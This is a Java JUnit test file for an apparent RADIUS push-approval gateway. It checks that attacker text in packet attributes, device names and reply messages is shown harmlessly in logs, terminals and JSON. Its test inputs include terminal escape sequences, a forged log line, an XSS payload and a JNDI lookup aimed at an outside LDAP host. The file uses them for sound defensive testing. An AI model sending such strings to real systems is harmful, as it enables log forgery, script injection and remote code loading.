package dev.pushgate;

import static dev.pushgate.RunningPushgate.PASSWORD;
import static dev.pushgate.RunningPushgate.nextQuestion;
import static org.assertj.core.api.Assertions.assertThat;

import ch.qos.logback.classic.Level;
import dev.pushgate.callback.phone.Phone;
import dev.pushgate.callback.phone.Reply;
import dev.pushgate.command.DevicesCommand;
import dev.pushgate.command.LoginCommand;
import dev.pushgate.command.phone.PhoneCommand;
import java.io.IOException;
import java.io.PrintWriter;
import java.io.StringWriter;
import java.io.UncheckedIOException;
import java.net.DatagramPacket;
import java.net.DatagramSocket;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.time.InstantSource;
import java.util.Arrays;
import java.util.List;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.FieldSource;
import picocli.CommandLine;

/**
 * Text of an attacker through every output: nothing that moves a cursor, breaks a line or turns the
 * direction of writing comes out as it went in, and no more than 128 characters of it.
 */
class HostileTextTest {
  static final List<String> HOSTILE =
      List.of(
          "\u001b[2J\u001b]0;owned\u0007alice",
          "\u009b31malice\u007f\b\b",
          "alice\r\n2026-01-01 INFO login of mallory: approved\u0085x\u2028y\u2029z",
          "<img src=x onerror=alert(1)>\"'&{}${jndi:ldap://203.0.113.1/a}",
          "x\u202eecila\u202c\u2066\u200f\u061c\ufeffx",
          "a".repeat(240));

  private static final String MORE_THAN_IS_SHOWN = "a".repeat(129);

  @ParameterizedTest(name = "{index}")
  @FieldSource("HOSTILE")
  void textInPackets_comesOutHarmlessInLogsQuestionsAndTerminals(
      String hostile, @TempDir Path folder) throws Exception {
    try (CapturedLog log =
            CapturedLog.open().at("ROOT", Level.DEBUG).at("org.tinyradius", Level.OFF);
        RunningPushgate pushgate = RunningPushgate.start(folder, "answer-within = 30s");
        RawNas nas = pushgate.rawNas()) {
      Path account = folder.resolve("account.json");
      Phone phone =
          ((Reply.Done<Phone>)
                  Phone.enrol(
                      pushgate.http(),
                      pushgate.invite("alice"),
                      "Phone",
                      account,
                      InstantSource.system()))
              .value();
      RawRequest known = hostile(hostile, new RawRequest(1, "alice", PASSWORD));
      nas.send(known);
      assertHarmless(String.valueOf(nextQuestion(phone).from()));

      String terminal =
          output(
              new PhoneCommand(),
              "approve",
              "--account=" + account,
              "--trust=" + pushgate.certificate());
      assertThat(terminal.lines()).as(terminal).hasSize(2).last().isEqualTo("  approved");
      terminal.lines().forEach(HostileTextTest::assertHarmless);
      assertThat(nas.reply(known).code()).isEqualTo(CheckedReply.ACCEPT);

      RawRequest unknown = hostile(hostile, new RawRequest(2, hostile, PASSWORD));
      assertThat(nas.ask(unknown).code()).isEqualTo(CheckedReply.REJECT);

      assertThat(log.messages("dev.pushgate"))
          .anyMatch(line -> line.contains("approved, after"))
          .anyMatch(line -> line.contains("refused, "))
          .allSatisfy(HostileTextTest::assertHarmless);
      assertThat(log.messages(""))
          .noneMatch(line -> line.contains(hostile) && !isHarmless(hostile));
    }
  }

  private static RawRequest hostile(String text, RawRequest request) {
    return request
        .with(RawRequest.CALLING_STATION_ID, text)
        .with(RawRequest.NAS_IDENTIFIER, text)
        .with(RawRequest.PROXY_STATE, text);
  }

  @ParameterizedTest(name = "{index}")
  @FieldSource("HOSTILE")
  void deviceName_isRefusedOrListedHarmless(String hostile, @TempDir Path folder) throws Exception {
    try (RunningPushgate pushgate = RunningPushgate.start(folder, "answer-within = 30s")) {
      Reply<Phone> reply =
          Phone.enrol(
              pushgate.http(),
              pushgate.invite("alice"),
              hostile,
              folder.resolve("account.json"),
              InstantSource.system());
      if (!isHarmless(hostile) || hostile.length() > 64) {
        assertThat(reply).isEqualTo(new Reply.Refused<>(400, "malformed", null, null));
      }

      // As if an older version had taken it.
      var _ = pushgate.enrol("bob");
      int renamed =
          pushgate
              .state()
              .store()
              .write(handle -> handle.execute("update device set name = ?", hostile));
      assertThat(renamed).isPositive();
      String listed = output(new DevicesCommand(), "list", "--config=" + folder);
      assertThat(listed.lines()).hasSize(1 + renamed);
      listed.lines().forEach(HostileTextTest::assertHarmless);
      String json = output(new DevicesCommand(), "list", "--json", "--config=" + folder);
      assertThat(json).contains("\"bob\"");
      json.lines().forEach(line -> assertThat(isHarmless(line)).as(line).isTrue());
    }
  }

  @ParameterizedTest(name = "{index}")
  @FieldSource("HOSTILE")
  void replyMessage_isShownHarmlessOnTheTimeline(String hostile) throws Exception {
    try (DatagramSocket server =
        new DatagramSocket(new InetSocketAddress(InetAddress.getLoopbackAddress(), 0))) {
      Thread.startVirtualThread(() -> rejectWith(hostile, server));
      String timeline =
          output(
              new LoginCommand(),
              "alice",
              "--server=127.0.0.1:" + server.getLocalPort(),
              "--secret=" + RunningPushgate.SECRET,
              "--password=" + PASSWORD,
              "--timeout=20");
      assertThat(timeline).contains("Access-Reject", "Reply-Message = ");
      assertThat(timeline.lines()).as(timeline).hasSize(4);
      timeline.lines().forEach(HostileTextTest::assertHarmless);
    }
  }

  /** A RADIUS server that answers one request. */
  private static void rejectWith(String message, DatagramSocket server) {
    try {
      DatagramPacket request = new DatagramPacket(new byte[4096], 4096);
      server.receive(request);
      byte[] authenticator = Arrays.copyOfRange(request.getData(), 4, 20);
      byte[] text = message.getBytes(StandardCharsets.UTF_8);
      byte[] words = RawRequest.joined(new byte[] {18, (byte) (2 + text.length)}, text);
      byte[] first = {(byte) RawRequest.MESSAGE_AUTHENTICATOR, 18};
      byte[] header =
          RawRequest.header(CheckedReply.REJECT, request.getData()[1], 38 + words.length);
      byte[] value = RawRequest.hmacMd5(header, authenticator, first, new byte[16], words);
      byte[] attributes = RawRequest.joined(first, value, words);
      byte[] signature = RawRequest.md5(header, authenticator, attributes, RawRequest.secret());
      byte[] reply = RawRequest.joined(header, signature, attributes);
      server.send(new DatagramPacket(reply, reply.length, request.getSocketAddress()));
    } catch (IOException e) {
      throw new UncheckedIOException(e);
    }
  }

  private static String output(Object command, String... arguments) {
    StringWriter output = new StringWriter();
    PrintWriter writer = new PrintWriter(output);
    int unused = new CommandLine(command).setOut(writer).setErr(writer).execute(arguments);
    return output.toString();
  }

  private static void assertHarmless(String line) {
    assertThat(isHarmless(line)).as(line).isTrue();
    assertThat(line).doesNotContain(MORE_THAN_IS_SHOWN);
  }

  private static boolean isHarmless(String line) {
    return line.codePoints()
        .map(Character::getType)
        .noneMatch(
            type ->
                type == Character.CONTROL
                    || type == Character.FORMAT
                    || type == Character.LINE_SEPARATOR
                    || type == Character.PARAGRAPH_SEPARATOR);
  }
}
